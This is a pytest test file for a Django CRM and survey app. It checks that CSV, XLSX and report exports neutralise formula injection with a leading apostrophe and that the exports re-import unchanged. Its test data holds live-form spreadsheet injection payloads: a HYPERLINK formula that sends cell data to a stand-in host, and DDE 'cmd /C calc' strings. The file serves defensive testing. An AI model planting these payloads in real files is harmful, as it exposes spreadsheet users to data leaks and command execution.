"""Formula injection: text that a spreadsheet would run as a formula (=, +, -, @, tab, CR at
the start) leaves every export neutralised by a leading apostrophe, is never written to Excel as
a formula, and comes back unchanged when the export is imported again."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import manyi
from manyi.core.tabular import FORMULA_STARTS, spreadsheet_text, spreadsheet_text_read
from manyi.customers.choices import ImportKind, ImportStatus
from manyi.customers.importing import import_job_create, import_run
from manyi.customers.models import Customer
from manyi.surveys.blueprints import ALL_DIMENSIONS
from manyi.surveys.services.design import survey_create_from_blueprint, survey_open
from manyi.surveys.services.responding import response_save_page, response_start, response_submit
from tests.factories import ContactPointFactory, CustomerFactory, InteractionFactory

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"]
CONTROL = ["\t=1+1", "\r=1+1"]  # stripped by the importer, but neutralised on the way out


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))  # not read-only: data_type is the stored one
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_neutralised(response, hostile: list[str]) -> list[str]:
    assert response.status_code == 200
    cells = csv_cells(body(response))
    for value in hostile:
        assert value not in cells
        assert "'" + value in cells
    assert not [c for c in cells if c[:1] in FORMULA_STARTS and not is_number(c)]
    return cells


def assert_xlsx_neutralised(content: bytes, hostile: list[str]) -> list:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if c.data_type == "s"]
    for value in hostile:
        assert "'" + value in texts
    assert not [t for t in texts if t[:1] in FORMULA_STARTS and not is_number(t)]
    return cells


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# The rule itself


@pytest.mark.parametrize(
    "value", [*HOSTILE, *CONTROL, "=", "'=1", "''+1", "-5", "+8613812345678", "-0.25"]
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_text(value) == "'" + value
    assert spreadsheet_text_read(spreadsheet_text(value)) == value


@pytest.mark.parametrize("value", ["plain", "a=b", "'quoted", "5", "13812345678", ""])
def test_other_text_stays_as_it_is(value):
    assert spreadsheet_text(value) == value
    assert spreadsheet_text_read(value) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.aZ ")))
def test_reading_back_gives_exactly_what_was_written(value):
    written = spreadsheet_text(value)
    assert spreadsheet_text_read(written) == value
    assert written[:1] not in FORMULA_STARTS


# Every export


@pytest.fixture
def hostile_customer(db):
    customer = CustomerFactory(
        external_id="C1", name=HYPERLINK, occupation=HOSTILE[1], city=HOSTILE[2], notes=HOSTILE[3]
    )
    ContactPointFactory(customer=customer, kind="phone", value="+8613812345678", is_primary=True)
    return customer


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_customer_export_is_neutralised(client, admin_user, hostile_customer, fmt):
    client.force_login(admin_user)  # who sees contact details unmasked
    response = client.get(reverse("customers:export", args=["customers", fmt]))
    if fmt == "csv":
        assert "'+8613812345678" in assert_csv_neutralised(response, HOSTILE)
    else:
        cells = assert_xlsx_neutralised(body(response), HOSTILE)
        assert "'+8613812345678" in [c.value for c in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_interaction_export_is_neutralised(client, admin_user, hostile_customer, fmt):
    InteractionFactory(customer=hostile_customer, subject=HOSTILE[0], content=HOSTILE[1])
    InteractionFactory(customer=hostile_customer, subject=HOSTILE[2], outcome_note=HOSTILE[3])
    client.force_login(admin_user)  # who sees contact details unmasked
    response = client.get(reverse("customers:export", args=["interactions", fmt]))
    if fmt == "csv":
        assert_csv_neutralised(response, HOSTILE)
    else:
        assert_xlsx_neutralised(body(response), HOSTILE)


@pytest.fixture
def answered_survey(analyst):
    survey = survey_open(survey=survey_create_from_blueprint(user=analyst, key="full_satisfaction"))
    for hostile in [*HOSTILE, *CONTROL]:
        response = response_start(survey=survey, channel="link", language="en")
        page1 = {"q__overall": ["4"]} | {f"q__items__{d}": ["4"] for d in ALL_DIMENSIONS}
        page3 = {"q__repurchase": ["4"], "q__nps": ["9"], "q__suggestions": [hostile]}
        for page, data in {1: page1, 2: {}, 3: page3}.items():
            assert response_save_page(response=response, page=page, data=data).ok
        assert response_submit(response=response).ok
    return survey


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_response_export_is_neutralised(client, analyst, answered_survey, fmt):
    client.force_login(analyst)
    response = client.get(reverse("surveys:responses_export", args=[answered_survey.pk, fmt]))
    if fmt == "csv":
        assert_csv_neutralised(response, HOSTILE)
    else:
        assert_xlsx_neutralised(body(response), HOSTILE)


def test_report_workbook_is_neutralised(client, analyst, answered_survey):
    # given: hostile text in the survey's title and in the open answers
    answered_survey.title_en = answered_survey.title_zh = HOSTILE[3]
    answered_survey.save(update_fields=["title_en", "title_zh"])
    client.force_login(analyst)
    # when
    response = client.get(reverse("reports:report_xlsx", args=[answered_survey.pk]))
    # then: in the Summary, the Comments and the Data sheet
    assert response.status_code == 200
    assert_xlsx_neutralised(response.content, HOSTILE)
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook["Summary"]["A2"].value == "'" + HOSTILE[3]
    comments = [row[2] for row in workbook["Comments"].iter_rows(min_row=2, values_only=True)]
    assert "'" + HYPERLINK in comments


def test_import_error_report_is_neutralised(client, analyst):
    # given: a file whose bad row carries a formula
    lines = io.StringIO()
    csv.writer(lines).writerows([["external_id", "name", "email"], ["C1", HYPERLINK, "nope"]])
    upload = SimpleUploadedFile("people.csv", lines.getvalue().encode())
    job = import_run(
        job=import_job_create(user=analyst, kind=ImportKind.CUSTOMERS, uploaded_file=upload)
    )
    client.force_login(analyst)
    # when
    response = client.get(reverse("customers:import_errors", args=[job.pk]))
    # then
    assert_csv_neutralised(response, [HYPERLINK])


# And back in


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(client, admin_user, hostile_customer, fmt):
    # given: text that needs neutralising, text that looks like it, and numbers as text
    Customer.objects.filter(pk=hostile_customer.pk).update(
        region="-5", segment=None, notes="'=already quoted"
    )
    before = Customer.objects.values("name", "occupation", "city", "region", "notes").get()
    client.force_login(admin_user)  # who sees contact details unmasked
    exported = body(client.get(reverse("customers:export", args=["customers", fmt])))
    Customer.objects.update(name="x", occupation="x", city="x", region="x", notes="x")
    hostile_customer.contacts.all().delete()
    # when
    upload = SimpleUploadedFile(f"customers.{fmt}", exported)
    job = import_run(
        job=import_job_create(user=admin_user, kind=ImportKind.CUSTOMERS, uploaded_file=upload)
    )
    # then
    assert (job.status, job.updated_count, job.failed_count) == (ImportStatus.DONE, 1, 0)
    after = Customer.objects.values("name", "occupation", "city", "region", "notes").get()
    assert after == before
    assert hostile_customer.contacts.get(kind="phone").value == "+8613812345678"


def test_spreadsheets_are_written_only_through_the_tabular_module():
    # A new export that wrote cells itself would bypass the neutralising: files that make
    # a CSV writer or a workbook are the tabular module and the report's workbook, and the
    # latter adds rows only through `xlsx_append`.
    src = Path(manyi.__file__).parent
    writers = {
        path.relative_to(src).as_posix()
        for path in src.rglob("*.py")
        if re.search(r"csv\.writer\(|\bWorkbook\(|\bWriteOnlyCell\(", path.read_text())
    }
    assert writers == {"core/tabular.py", "analytics/reports/excel.py"}
    excel = (src / "analytics/reports/excel.py").read_text()
    assert not re.search(r"\.append\(|\.cell\(|\.value\s*=", excel)
